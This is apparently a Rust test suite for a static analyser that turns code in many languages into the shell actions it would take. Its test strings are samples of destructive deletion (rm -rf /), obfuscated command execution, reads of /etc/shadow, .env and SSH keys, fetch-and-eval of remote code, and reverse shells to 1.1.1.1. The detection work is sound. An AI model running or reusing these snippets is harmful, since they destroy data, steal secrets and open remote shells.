//! What programs are told to do.

use super::*;

fn does(language: &str, text: &str) -> String {
    let mut told = Told::default();
    let f = read(language, "x", text, &Given::default(), &mut told);
    let mut out = told.lines.join("; ").replace("_own= ", "");
    if let Some(f) = f {
        out = format!("{} {}", f.rule, out);
    }
    if told.socket && told.shell {
        out = format!("backdoor {}", out);
    }
    if told.more {
        out.push_str(" MORE");
    }
    out
}

fn check(wrong: &mut Vec<String>, text: &str, got: &str, want: &str, fits: fn(&str, &str) -> bool) {
    if !fits(got, want) {
        wrong.push(format!("{}\n got: {}\nwant: {}", text, got, want));
    }
}

#[test]
fn commands_that_programs_start() {
    let mut wrong = Vec::new();
    for (language, text, want) in [
        ("python", "import os; os.system('rm -rf ~')", "sh -c 'rm -rf ~'"),
        ("python", "from os import system as s\ns('rm '+'-rf /')", "sh -c 'rm -rf /'"),
        ("python", "import subprocess as sp; sp.run(['rm', '-rf', '/etc'])", "rm -rf /etc"),
        ("python", "import subprocess\nx='git status'\nsubprocess.check_output(x, shell=True)", "sh -c 'git status'"),
        ("python", "__import__('os').system('ls')", "sh -c 'ls'"),
        ("python", "import os; getattr(os, 'sys'+'tem')('ls')", "sh -c 'ls'"),
        ("python", "import os; os.execvp('rm', ['rm', '-rf', '/'])", "rm -rf /"),
        ("python", "import os,base64; os.system(base64.b64decode('cm0gLXJmIC8=').decode())", "sh -c 'rm -rf /'"),
        ("python", "exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgibHMiKQ=='))", "sh -c 'ls'"),
        ("python", "import os; os.system(''.join(chr(c) for c in [108, 115]))", "sh -c 'ls'"),
        ("python", "import os; os.system(bytes.fromhex('6c73').decode())", "sh -c 'ls'"),
        ("python", "import os; os.system('sl'[::-1])", "sh -c 'ls'"),
        ("python", "import os,codecs; os.system(codecs.decode('yf', 'rot13'))", "sh -c 'ls'"),
        ("python", "import sys, os; os.system(sys.argv[1])", "eval \"$UNKNOWN\""),
        ("python", "def f(c): os.system(c)\nf('ls')", "sh -c 'ls'"),
        ("python", "import os\nfor d in ['/etc', '/usr']:\n    os.system('rm -rf ' + d)", "sh -c 'rm -rf /etc'; sh -c 'rm -rf /usr'"),
        ("python", "import os\nd='/etc'\nos.system(f'rm -rf {d}')\nos.system('rm -rf %s' % d)\nos.system('rm -rf {}'.format(d))", "sh -c 'rm -rf /etc'"),
        ("python", "exec(open('x.py').read())", "cat x.py; python3 x.py"),
        ("perl", "system(\"rm -rf ~\")", "sh -c 'rm -rf ~'"),
        ("perl", "system qw(rm -rf /)", "rm -rf /"),
        ("perl", "my $x='rm'; system \"$x -rf /\"", "sh -c 'rm -rf /'"),
        ("perl", "print `ls`; exec 'ls'", "sh -c 'ls'"),
        ("perl", "open(F, 'ls |'); open(G, '-|', 'ls', '-l')", "sh -c 'ls'; ls -l"),
        ("perl", "eval pack('H*', '73797374656d20226c7322')", "sh -c 'ls'"),
        ("perl", "system join '', map {chr} 108, 115", "sh -c 'ls'"),
        ("ruby", "system('rm', '-rf', '/')", "rm -rf /"),
        ("ruby", "puts `rm -rf ~`", "sh -c 'rm -rf ~'"),
        ("ruby", "system(\"bHM=\".unpack1(\"m\")); %x(ls -l)", "sh -c 'ls'; sh -c 'ls -l'"),
        ("ruby", "Kernel.send(:system, 'ls'); Open3.capture2('ls -a')", "sh -c 'ls'; sh -c 'ls -a'"),
        ("ruby", "system [108, 115].pack('c*')", "sh -c 'ls'"),
        ("javascript", "require('child_process').execSync('rm -rf ~')", "sh -c 'rm -rf ~'"),
        ("javascript", "const {exec: e} = require('node:child_process'); e('ls')", "sh -c 'ls'"),
        ("javascript", "const cp = require('child_process'); cp['ex'+'ec'](String.fromCharCode(108,115))", "sh -c 'ls'"),
        ("javascript", "require('child_process').spawn('rm', ['-rf', '/'])", "rm -rf /"),
        ("javascript", "import('child_process').then(c => c.exec(atob('bHM=')))", "sh -c 'ls'"),
        ("javascript", "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImxzIik=', 'base64').toString())", "sh -c 'ls'"),
        ("php", "exec(\"rm -rf /\");", "sh -c 'rm -rf /'"),
        ("php", "$f='sys'.'tem'; $f('ls'); echo `ls -l`; eval(base64_decode('c3lzdGVtKCJscyAtYSIpOw=='));", "sh -c 'ls'; sh -c 'ls -l'; sh -c 'ls -a'"),
        ("lua", "os.execute(\"rm -rf /\"); io.popen('ls')", "sh -c 'rm -rf /'; sh -c 'ls'"),
        ("lua", "os.execute(string.char(108,115))", "sh -c 'ls'"),
        ("r", "system2('rm', c('-rf', '/')); system(paste('ls', '-l'))", "rm -rf /; sh -c 'ls -l'"),
        ("awk", "BEGIN{system(\"rm -rf \" \"/\"); print \"ls\" | \"sh\"; \"date\" | getline d}", "sh -c 'rm -rf /'; printf '%s\\n' 'ls' | sh -c 'sh'; sh -c 'date'"),
        ("julia", "run(`rm -rf /`)", "sh -c 'rm -rf /'"),
        ("elixir", "System.cmd(\"rm\", [\"-rf\", \"/\"])", "rm -rf /"),
        ("groovy", "\"rm -rf /\".execute()", "sh -c 'rm -rf /'"),
        ("tcl", "exec rm -rf /; file delete -force /etc", "rm -rf /; rm -rf /etc"),
        ("elisp", "(shell-command \"rm -rf /\")(delete-directory \"~\" t)", "sh -c 'rm -rf /'; rm -rf ~"),
        ("powershell", "Remove-Item -Recurse -Force $HOME; Get-Content .env", "rm -rf ~; cat .env"),
        ("make", "all:\n\t@rm -rf $(D)\nD=/etc\n", "sh -c 'rm -rf $UNKNOWN'"),
        ("make", "D := /etc\nall:; rm -rf $(D)/*", "sh -c 'rm -rf /etc/*'"),
        ("applescript", "do shell script \"rm -rf ~\"", "sh -c 'rm -rf ~'"),
        ("cmake", "file(REMOVE_RECURSE /etc) execute_process(COMMAND rm -rf /)", "rm -rf /etc; rm -rf /"),
    ] {
        check(&mut wrong, text, &does(language, text), want, |g, w| g == w);
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn files_that_programs_change() {
    let mut wrong = Vec::new();
    for (language, text, want) in [
        ("python", "import shutil, os; shutil.rmtree(os.path.expanduser('~'))", "rm -rf ~"),
        ("python", "import shutil; shutil.rmtree('build', ignore_errors=True)", "rm -rf build"),
        ("python", "import pathlib; print(pathlib.Path('.env').read_text())", "cat .env"),
        ("python", "from pathlib import Path; (Path.home()/'.ssh'/'id_rsa').read_text()", "cat ~/.ssh/id'_rsa'"),
        ("python", "open('/etc/sudoers','a').write('x')", ": >> /etc/sudoers; printf '%s' 'x' >> /etc/sudoers"),
        ("python", "import os\nfor f in os.listdir('/etc'): os.remove(os.path.join('/etc', f))", "rm -f /etc/*"),
        ("python", "import os, glob\n[os.remove(f) for f in glob.glob('/etc/*.conf')]", "rm -f /etc/*.conf"),
        ("python", "import os; os.chmod('/etc/passwd', 0o777); os.rename('/etc', '/x')", "chmod 777 /etc/passwd; mv /etc /x"),
        ("python", "import shutil, sys; shutil.rmtree(sys.argv[1])", "rm -rf \"$UNKNOWN\""),
        ("python", "l=[1]; l.remove(1)", ""),
        ("javascript", "require('fs').rmSync(process.env.HOME, {recursive: true})", "rm -rf ~"),
        ("javascript", "const fs=require('fs'); fs.readdirSync('/etc').forEach(f => fs.unlinkSync('/etc/'+f))", "rm -f /etc/*"),
        ("javascript", "import fs from 'fs'; fs.writeFileSync('/etc/passwd', 'x')", "printf '%s' 'x' > /etc/passwd"),
        ("perl", "unlink glob '/etc/*'; unlink <*.o>; rmtree('/usr')", "rm -f /etc/*; rm -f *.o; rm -rf /usr"),
        ("perl", "unlink for glob \"/etc/*\"", "rm -f /etc/*"),
        ("perl", "open F, '</etc/shadow'; print <F>", "cat /etc/shadow"),
        ("perl", "open(my $fh, '>', '/etc/passwd'); print $fh 'x'", ": > /etc/passwd; printf '%s' 'x' >> /etc/passwd"),
        ("perl", "chmod 0777, '/etc'", "chmod 777 /etc"),
        ("ruby", "require 'fileutils'; FileUtils.rm_rf('/etc'); File.delete('x'); puts File.read('.env')", "rm -rf /etc; rm -f x; cat .env"),
        ("ruby", "Dir['/etc/*'].each { |f| File.delete f }", "rm -f /etc/*"),
        ("ruby", "FileUtils.rm_rf Dir.home", "rm -rf ~"),
        ("php", "array_map(\"unlink\", glob(\"/etc/*\"));", "rm -f /etc/*"),
        ("php", "echo file_get_contents('/etc/shadow');", "cat /etc/shadow"),
        ("lua", "os.remove('/etc/passwd'); print(io.open('.env'):read('*a'))", "rm -f /etc/passwd; cat .env"),
        ("r", "unlink('/etc', recursive=TRUE); readLines('.env')", "rm -rf /etc; cat .env"),
        ("awk", "{print > \"/etc/passwd\"} BEGIN{while((getline l < \".env\")>0) print l}", ": > /etc/passwd; cat .env"),
        ("sql", "copy t to '/etc/passwd'; select pg_read_file('/etc/shadow')", ": > /etc/passwd; cat /etc/shadow"),
        ("sed", "w /etc/passwd", ": > /etc/passwd"),
    ] {
        check(&mut wrong, text, &does(language, text), want, |g, w| g == w);
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn the_network() {
    let mut wrong = Vec::new();
    for (language, text, want) in [
        ("python", "import urllib.request as u; exec(u.urlopen('https://x/y').read())", "| python3"),
        ("python", "import requests; exec(requests.get('https://x').text)", "| python3"),
        ("python", "import requests,os; os.system(requests.get('https://x').text)", "| sh"),
        ("python", "import urllib.request; urllib.request.urlretrieve('https://x/i.sh','i.sh')", "curl -s https'://x/i.sh' -o i.sh"),
        ("javascript", "fetch('https://x').then(r => r.text()).then(eval)", "| node"),
        ("javascript", "require('https').get('https://x', r => r.on('data', d => eval(d.toString())))", "| node"),
        ("ruby", "require 'open-uri'; eval URI.open('https://x').read", "| ruby"),
        ("php", "eval(file_get_contents('https://x'));", "| php"),
        ("perl", "use LWP::Simple; eval get('https://x')", "| perl"),
        ("r", "source('https://x/y.R')", "| Rscript"),
        ("python", "import socket,os,pty;s=socket.socket();s.connect(('1.1.1.1',1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')", "backdoor"),
        ("perl", "use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,1);open(STDIN,'>&S');exec('/bin/sh -i');", "backdoor"),
        ("ruby", "require 'socket'; s=TCPSocket.new('1.1.1.1',1); exec '/bin/sh -i <&3'", "backdoor"),
        ("php", "$s=fsockopen('1.1.1.1',1);exec('/bin/sh -i <&3 >&3 2>&3');", "backdoor"),
        ("javascript", "const n=require('net'),c=require('child_process');const s=c.spawn('/bin/sh',[]);n.connect(1,'h',function(){this.pipe(s.stdin)})", "backdoor"),
        ("lua", "local s=require('socket').tcp();s:connect('h',1);while true do local r=s:receive();local f=io.popen(r)end", "| sh"),
    ] {
        check(&mut wrong, text, &does(language, text), want, |g, w| g.contains(w));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn harmless_programs() {
    let mut wrong = Vec::new();
    for (language, text) in [
        ("python", "import json,sys; print(json.load(sys.stdin)['a'])"),
        ("python", "import platform; print(platform.system())"),
        ("python", "import re; print(re.compile('x').search('y'))"),
        ("python", "print('rm -rf /'); x = {'a': 'rm -rf ~'}; assert 'os.system' in x"),
        ("python", "import os; print(os.path.exists('.env'), os.environ['HOME'])"),
        ("python", "import torch; m.eval(); df.eval('a+b'); app.run()"),
        ("python", "import requests; print(requests.get('https://x').json())"),
        ("python", "import socket; s=socket.create_connection(('db', 5432), 2); print('ok')"),
        ("perl", "s/a/b/; print if /system/"),
        ("perl", "$h{$_}++; END { print \"$_ $h{$_}\\n\" for sort keys %h }"),
        ("ruby", "puts $_ if $_ =~ /rm -rf/; puts ARGF.read.upcase"),
        ("javascript", "console.log(require('./package.json').version)"),
        ("javascript", "/a(b)/.exec('ab')[1]; [1,2].map(x => x*2).join(',')"),
        ("javascript", "process.stdout.write(JSON.stringify({a: 1}))"),
        ("awk", "NR==1 || NR==2"),
        ("awk", "{s+=$1} END {printf \"%d\\n\", s}"),
        ("awk", "/chmod 777/ {n++} END {print n}"),
        ("awk", "BEGIN{FS=\",\"} $3 > 5 {print $1, $2}"),
        ("php", "echo json_encode(['a' => 1]);"),
        ("lua", "print(('x'):rep(3))"),
        ("sql", "delete from jobs where state = 'done'"),
        ("sql", "select * from files where name = '/etc/passwd'"),
        ("powershell", "Get-ChildItem | Where-Object { $_.Length -gt 1 } | Select-Object Name"),
        ("r", "summary(lm(y ~ x))"),
    ] {
        check(&mut wrong, text, &does(language, text), "", |g, w| g == w);
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Bad input ends, and is told to be more than can be judged where it is.
#[test]
fn bombs_end() {
    let deep = |open: &str, n: usize| open.repeat(n);
    for (language, text) in [
        ("python", deep("f(", 4000)),
        ("python", deep("[", 4000)),
        ("javascript", deep("(x=>", 3000)),
        ("javascript", deep("{a:", 3000)),
        ("perl", deep("map { ", 3000)),
        ("ruby", deep("-> { ", 3000)),
        ("elisp", deep("(a ", 4000)),
        ("tcl", deep("if {1} {", 2000)),
        ("python", deep("-", 5000)),
        ("python", deep("a.b(c)[d].", 3000)),
        ("javascript", deep("a ? b : ", 3000)),
        ("python", deep("x = [y for y in z]; ", 1000)),
        ("python", format!("{}f()", deep("def f():\n f()\n f()\n", 300))),
        ("awk", deep("a b ", 4000)),
        ("php", deep("\"{$a[", 2000)),
        ("powershell", deep("$a = (", 3000)),
        ("make", deep("a := $(a)$(a)\n", 2000)),
        ("python", format!("x = 'a'\n{}", deep("x = x + x\n", 200))),
    ] {
        does(language, &text);
    }
}
